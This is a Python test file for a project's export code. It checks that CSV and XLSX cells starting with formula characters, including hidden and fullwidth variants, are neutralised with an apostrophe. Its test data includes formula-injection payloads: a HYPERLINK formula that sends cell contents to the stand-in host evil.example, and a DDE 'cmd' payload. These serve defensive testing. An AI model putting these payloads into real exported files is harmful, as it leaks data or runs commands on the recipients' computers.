"""Formula neutralisation: the one place every export and report writes its cells through
(issue 10, finding 7)."""

from __future__ import annotations

import codecs
import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from jifen.core.exports import csv_bytes, safe_cell, safe_row, unquote_cell, xlsx_bytes

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝HYPERLINK(\"http://evil.example\")", "＋1+1", "－1+1", "＠SUM(A1)",
    " =1+1", "\u3000=1+1", "\u3000＝1+1", "\xa0@SUM(A1)",
]


def test_text_that_would_run_as_a_formula_gets_an_apostrophe():
    assert safe_row(["=1+1", "+SUM(A1)", "@cmd", "-x", "正常"]) == [
        "'=1+1", "'+SUM(A1)", "'@cmd", "'-x", "正常"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_fullwidth_and_whitespace_led_formulas_are_neutralised_too(attack):
    assert safe_cell(attack) == "'" + attack
    assert unquote_cell(safe_cell(attack)) == attack  # a fixed report reads back as sent


def test_numbers_and_numeric_text_are_left_alone():
    assert [safe_cell(v) for v in (-5, 3.5, Decimal("-2.50"), "-5", "+12.5", " -5", "1e3",
                                   None, "a=b", "张伟 -", "")] == [
        -5, 3.5, Decimal("-2.50"), "-5", "+12.5", " -5", "1e3", None, "a=b", "张伟 -", ""]
    # Things Python's float() takes that a spreadsheet would not read as a number.
    assert [safe_cell(v) for v in ("-inf", "-1_000", "-nan")] == ["'-inf", "'-1_000", "'-nan"]
    assert unquote_cell("'quoted by the author") == "'quoted by the author"


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        return parts.read("xl/worksheets/sheet1.xml").decode()


def test_no_xlsx_cell_is_written_as_a_formula_header_included():
    content = xlsx_bytes(["=HYPERLINK(\"http://evil.example\",\"h\")", "Points"],
                         [[attack, -5] for attack in ATTACKS])

    assert "<f>" not in _sheet_xml(content)
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows())
    assert rows[0][0].value == "'=HYPERLINK(\"http://evil.example\",\"h\")"
    for row, attack in zip(rows[1:], ATTACKS, strict=True):
        assert row[0].data_type == "s"
        assert row[0].value.replace("\n", "\r") == ("'" + attack).replace("\n", "\r")
        assert (row[1].data_type, row[1].value) == ("n", -5)  # a number stays a number


def test_text_openpyxl_cannot_store_does_not_break_the_file():
    content = xlsx_bytes(["a"], [["bell\x07 and null\x00 gone"]])
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "bell and null gone"


def test_csv_cells_are_neutralised_header_included():
    content = csv_bytes(["=1+1", "n"], [[attack, -5] for attack in ATTACKS])

    assert content.startswith(codecs.BOM_UTF8)
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert lines[0] == ["'=1+1", "n"]
    assert [line[0] for line in lines[1:]] == ["'" + attack for attack in ATTACKS]
    assert {line[1] for line in lines[1:]} == {"-5"}


def test_no_module_but_exports_writes_a_spreadsheet():
    """Every sheet we hand out goes through ``jifen.core.exports`` (DESIGN.md §7): a new
    export that writes its own csv or xlsx would skip the neutralisation."""
    from pathlib import Path

    import jifen

    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|WriteOnlyCell\(")
    root = Path(jifen.__file__).parent
    found = [str(path.relative_to(root)) for path in root.rglob("*.py")
             if writers.search(path.read_text(encoding="utf-8"))]
    assert found == ["core/exports.py"]


# --- characters before the "=" (issue 10 review, finding 8) ---------------------------------


@pytest.mark.parametrize("attack", ["\x01=1+1", "\x00\x1f=1+1", "\x0b+SUM(A1)", "\x1b@SUM(A1)"])
def test_control_characters_before_a_formula_are_dropped_before_it_is_judged(attack):
    """An xlsx cannot hold these characters, so they are dropped; what is left must then be
    judged, or "\\x01=1+1" reaches the sheet as the formula text "=1+1"."""
    cleaned = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", attack)
    assert safe_cell(attack) == "'" + cleaned

    sheet = load_workbook(io.BytesIO(xlsx_bytes(["h"], [[attack]]))).active
    assert sheet["A2"].value == "'" + cleaned
    lines = list(csv.reader(io.StringIO(csv_bytes(["h"], [[attack]]).decode("utf-8-sig"),
                                        newline="")))
    assert lines[1] == ["'" + cleaned]


@pytest.mark.parametrize("attack", ["\ufeff=1+1", "\u200b=HYPERLINK(\"http://evil.example\")",
                                    "\u200b \u2060＝1+1", "\u200e@SUM(A1)", "\x7f+1+1"])
def test_invisible_format_characters_before_a_formula_do_not_hide_it(attack):
    assert safe_cell(attack) == "'" + attack
    assert unquote_cell(safe_cell(attack)) == attack

    content = xlsx_bytes(["h"], [[attack]])
    assert "<f>" not in _sheet_xml(content)
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "'" + attack
    lines = list(csv.reader(io.StringIO(csv_bytes(["h"], [[attack]]).decode("utf-8-sig"),
                                        newline="")))
    assert lines[1] == ["'" + attack]


def test_invisible_characters_before_a_number_or_plain_text_change_nothing():
    assert [safe_cell(v) for v in ("\ufeff-5", "\u200b12", "\ufeff张伟", "a\u200b=b")] == [
        "\ufeff-5", "\u200b12", "\ufeff张伟", "a\u200b=b"]
